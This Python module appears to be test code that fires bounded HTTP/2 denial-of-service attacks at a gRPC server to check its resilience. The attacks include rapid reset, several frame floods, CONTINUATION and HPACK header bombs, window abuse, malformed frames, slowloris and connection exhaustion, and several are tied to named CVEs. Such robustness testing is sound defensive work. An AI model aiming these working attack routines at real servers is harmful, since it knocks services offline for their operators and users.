"""Attacks of a hostile client on a server; each is bounded and ends on its own."""

import random
import struct
from contextlib import ExitStack

from support.raw_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    cancellation,
    frame,
    header_block,
    message,
    settings,
)

GET = "/unroll.v1.UnrollService/GetModel"
STREAM = "/unroll.v1.UnrollService/Unroll"


def rapid_reset(address: str) -> None:
    """Calls that are cancelled at once (CVE-2023-44487)."""
    begin = header_block(GET)
    for _ in range(4):
        with Connection(address) as connection:
            for first in range(1, 10_000, 200):
                streams = range(first, first + 200, 2)
                calls = [frame(HEADERS, END_HEADERS, stream, begin) + cancellation(stream) for stream in streams]
                if not connection.send(*calls):
                    break


def rapid_reset_by_the_server(address: str) -> None:
    """Calls that the server must reset, since they violate the protocol after their start (CVE-2025-8671)."""
    begin = header_block(STREAM)
    with Connection(address) as connection:
        for stream in range(1, 10_000, 2):
            zero = frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            if not connection.send(frame(HEADERS, END_HEADERS, stream, begin), zero):
                break


def ping_flood(address: str) -> None:
    """Pings whose answers are never read."""
    _flood(address, frame(PING, 0, 0, b"12345678"))


def settings_flood(address: str) -> None:
    """Settings whose acknowledgements are never read (CVE-2019-9515)."""
    _flood(address, settings(initial_window_size=65535))


def priority_flood(address: str) -> None:
    """Priorities of streams that do not exist (CVE-2019-9513)."""
    _flood(address, frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 7)))


def empty_data_flood(address: str) -> None:
    """Empty pieces of a request (CVE-2019-9518)."""
    begin = frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
    _flood(address, frame(DATA, 0, 1), begin)


def padding_flood(address: str) -> None:
    """Pieces of a request with only padding."""
    begin = frame(HEADERS, END_HEADERS, 1, header_block(STREAM))
    _flood(address, frame(DATA, 0x8, 1, bytes([200]) + bytes(200)), begin, count=5_000)


def window_update_flood(address: str) -> None:
    """Window updates of a single byte."""
    _flood(address, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def unknown_frames(address: str) -> None:
    """Frames of unknown types."""
    _flood(address, frame(0xCC, 0xFF, 0, bytes(64)))


def continuation_flood(address: str) -> None:
    """Headers that never end (CVE-2024-27316)."""
    piece = frame(CONTINUATION, 0, 1, b"\x00\x03abc\x03def" * 100)
    _flood(address, piece, frame(HEADERS, 0, 1, header_block(GET)), count=20_000)


def empty_continuation_flood(address: str) -> None:
    """Headers that never end and never grow."""
    _flood(address, frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, header_block(GET)))


def giant_headers(address: str) -> None:
    """A header of a megabyte, and 10,000 headers."""
    many = [(f"x-{number}", "v") for number in range(10_000)]
    for more in ([("x-giant", "g" * 2**20)], many):
        block = header_block(GET, *more)
        pieces = [block[start : start + 16000] for start in range(0, len(block), 16000)]
        with Connection(address) as connection:
            frames = [frame(CONTINUATION, 0, 1, piece) for piece in pieces[1:-1]]
            last = frame(CONTINUATION, END_HEADERS, 1, pieces[-1])
            connection.send(frame(HEADERS, END_STREAM, 1, pieces[0]), *frames, last)
            connection.is_alive()


def header_bomb(address: str) -> None:
    """Headers that are small until they are decoded: one of 4 KB, referenced 15,000 times by a byte."""
    kept = b"\x40" + b"\x01b" + b"\x7f" + _varint(3900 - 127) + b"z" * 3900
    for stream in (1, 3, 5):
        with Connection(address) as connection:
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, header_block(GET) + kept))
            for further in range(stream + 2, stream + 40, 2):
                if not connection.send(
                    frame(HEADERS, END_HEADERS | END_STREAM, further, header_block(GET) + b"\xbe" * 15_000)
                ):
                    break
            connection.is_alive()


def _varint(value: int) -> bytes:
    out = b""
    while value >= 128:
        out += bytes([value % 128 + 128])
        value //= 128
    return out + bytes([value])


def window_games(address: str) -> None:
    """Windows of zero, of too much, and that shrink below zero."""
    overflow = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1))
    nothing = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))
    for pieces in ([overflow, overflow], [nothing], [settings(initial_window_size=2**31)]):
        with Connection(address) as connection:
            connection.send(*pieces)
            connection.is_alive()
    with Connection(address, PREFACE + settings(initial_window_size=0)) as connection:
        for stream in range(1, 200, 2):
            connection.call(stream, GET, b"\x0a\x02jv")
        for size in (10, 0, 1000, 1):
            connection.send(settings(initial_window_size=size))
        connection.is_alive()


def misplaced_frames(address: str) -> None:
    """Frames in wrong places, and frames of wrong sizes."""
    begin = header_block(GET)
    for pieces in (
        [frame(DATA, 0, 0, b"x")],
        [frame(DATA, 0, 1, b"x")],
        [frame(HEADERS, END_HEADERS, 2, begin)],
        [frame(HEADERS, END_HEADERS, 0, begin)],
        [frame(HEADERS, END_HEADERS, 5, begin), frame(HEADERS, END_HEADERS, 3, begin)],
        [frame(HEADERS, 0, 1, begin), frame(PING, 0, 0, bytes(8))],
        [frame(CONTINUATION, END_HEADERS, 1, begin)],
        [frame(PUSH_PROMISE, END_HEADERS, 1, begin)],
        [frame(PING, 0, 0, bytes(7))],
        [frame(SETTINGS, ACK, 0, bytes(6))],
        [frame(SETTINGS, 0, 0, bytes(5))],
        [frame(RST_STREAM, 0, 0, bytes(4))],
        [frame(WINDOW_UPDATE, 0, 1, bytes(4))],
        [frame(HEADERS, END_HEADERS, 1, b"\xff\xff\xff\xff\xff\xff\xff\xff\xff")],
        [frame(DATA, 0, 1, bytes(2**24 - 1))],
    ):
        with Connection(address) as connection:
            connection.socket.settimeout(0.1)
            connection.send(*pieces)
            connection.is_alive()


def broken_messages(address: str) -> None:
    """Calls with malformed gRPC messages: too long, truncated, missing, many, with an unknown codec."""
    with Connection(address) as connection:
        for number, body in enumerate(
            (b"\0\xff\xff\xff\xff", b"\0\0\0\0\x0aabc", b"", b"\x07\0\0\0\0", message(b"") * 100, b"\1\0\0\0\3abc")
        ):
            stream = 2 * number + 1
            connection.send(frame(HEADERS, END_HEADERS, stream, header_block(GET)), frame(DATA, 1, stream, body))
        connection.send(frame(HEADERS, END_HEADERS, 101, header_block(GET, ("grpc-encoding", "zip"))))
        connection.send(frame(DATA, END_STREAM, 101, b"\1\0\0\0\3abc"))
        connection.send(frame(HEADERS, END_HEADERS, 103, header_block(GET, ("grpc-timeout", "99999999999H"))))
        connection.is_alive()


def garbage(address: str) -> None:
    """Bytes that are not HTTP/2, at once or after a valid start."""
    bytes_of = random.Random(7).randbytes  # noqa: S311 - the same garbage each time
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    web = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    beginnings = [b"", PREFACE, PREFACE + settings(), PREFACE + settings() + frame(HEADERS, END_HEADERS, 1)]
    for greeting in (hello, web, *(beginning + bytes_of(20_000) for beginning in beginnings for _ in range(10))):
        with Connection(address, greeting) as connection:
            connection.socket.settimeout(0.05)
            for _ in connection.frames():
                pass


def half_open_prefaces(address: str) -> None:
    """Connections that stop in the middle of the preface."""
    with ExitStack() as stack:
        for number in range(300):
            stack.enter_context(Connection(address, PREFACE[: number % len(PREFACE)]))


def slowloris(address: str) -> None:
    """Calls on many connections, sent byte by byte and never completed."""
    call = frame(HEADERS, END_HEADERS, 1, header_block(GET)) + frame(DATA, 0, 1, message(b"\x0a\x02jv"))
    with ExitStack() as stack:
        connections = [stack.enter_context(Connection(address)) for _ in range(100)]
        for byte in call[:-1]:
            for connection in connections:
                connection.send(bytes([byte]))


def idle_connections(address: str) -> None:
    """1,000 connections that send only the preface."""
    with ExitStack() as stack:
        connections = [stack.enter_context(Connection(address)) for _ in range(1000)]
        assert connections[0].is_alive()
        assert connections[-1].is_alive()


def connections_that_come_and_go(address: str) -> None:
    """2,000 connections, each closed at once."""
    for number in range(2000):
        with Connection(address, PREFACE + settings() if number % 2 else b""):
            pass


ATTACKS = (
    rapid_reset,
    rapid_reset_by_the_server,
    ping_flood,
    settings_flood,
    priority_flood,
    empty_data_flood,
    padding_flood,
    window_update_flood,
    unknown_frames,
    continuation_flood,
    empty_continuation_flood,
    giant_headers,
    header_bomb,
    window_games,
    misplaced_frames,
    broken_messages,
    garbage,
    half_open_prefaces,
    slowloris,
    idle_connections,
    connections_that_come_and_go,
)


def _flood(address: str, piece: bytes, begin: bytes = b"", count: int = 50_000) -> None:
    """Repeats some bytes without reading, until the server closes the connection or stops reading."""
    with Connection(address) as connection:
        connection.socket.settimeout(2)
        connection.send(begin)
        for _ in range(0, count, 500):
            if not connection.send(piece * 500):
                break
